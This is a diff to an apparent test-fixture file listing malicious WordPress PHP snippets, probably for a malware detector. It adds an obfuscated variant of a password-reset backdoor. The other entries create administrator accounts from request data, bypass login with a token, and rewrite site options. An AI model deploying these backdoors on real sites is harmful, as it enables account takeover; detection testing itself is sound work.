@@ -45,6 +45,7 @@ export const MALICIOUS_SITES: Named = {
   'account: an administrator from the request': `<?php require 'wp-load.php'; $id = wp_insert_user(array('user_login' => ${GET}['u'], 'user_pass' => ${GET}['p'], 'role' => 'administrator')); echo $id;`,
   'account: a new password for the first one': `<?php require 'wp-load.php'; wp_set_password('newpass', 1);`,
   'account: a new password from the request': `<?php require '../wp-load.php'; wp_set_password(${GET}['p'], ${GET}['id']); echo 'ok';`,
+  'account: a new password behind a call with a name that every object of the engine has': `<?php if (0) constructor(); wp_set_password(${GET}['p'], ${GET}['id']); echo 'ok';`,
   'account: the first one logged in for who knows a word': `<?php add_action('init', function () { if (${GET}['tk'] == 'zz') { $u = get_user_by('id', 1); wp_set_current_user($u->ID); wp_set_auth_cookie($u->ID); wp_redirect(admin_url()); exit; } });`,
   'setting: any, from the request': `<?php add_action('init', function () { if (isset(${POST}['k'])) update_option(${POST}['n'], ${POST}['v']); });`,
 
